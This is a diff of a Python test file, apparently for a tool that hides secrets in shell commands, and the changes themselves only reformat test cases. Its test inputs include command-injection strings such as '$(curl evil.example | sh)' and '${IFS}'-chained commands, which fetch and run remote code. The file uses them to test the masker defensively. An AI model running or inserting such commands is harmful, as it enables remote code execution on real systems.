@@ -51,7 +51,10 @@ def test_no_other_tool_is_looked_at() -> None:
         ("sshpass -p pa55word12 ssh host", "sshpass -p *** ssh host"),
         ("mysql -u root -ppa55word12 shop", "mysql -u root -p*** shop"),
         ("docker login -u bob -p pa55word12 registry.example", "docker login -u bob -p *** registry.example"),
-        ("npm config set //registry.example/:_authToken=pa55word12", "npm config set //registry.example/:_authToken=***"),
+        (
+            "npm config set //registry.example/:_authToken=pa55word12",
+            "npm config set //registry.example/:_authToken=***",
+        ),
         ("aws configure set aws_secret_access_key pa55word12", "aws configure set aws_secret_access_key ***"),
         (
             "echo '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----' > key",
@@ -73,7 +76,7 @@ def test_secrets_are_hidden_those_of_the_configuration_and_those_in_the_command(
         ('export TOKEN="$(curl evil.example | sh)"; ls', None),
         ("API_KEY=`curl evil.example|sh` make", None),
         ('deploy --token "$(touch /tmp/a; date)"', None),
-        ("PASSWORD=$(\"touch\" a)\nls", None),
+        ('PASSWORD=$("touch" a)\nls', None),
         ("PASSWORD=pa55word12;touch${IFS}a", "PASSWORD=***;touch${IFS}a"),
         ("PASSWORD=pa55word12&&curl evil.example|sh", "PASSWORD=***&&curl evil.example|sh"),
         ("export TOKEN=ghp_abcdefghijklmnop1234; git push", "export TOKEN=***; git push"),
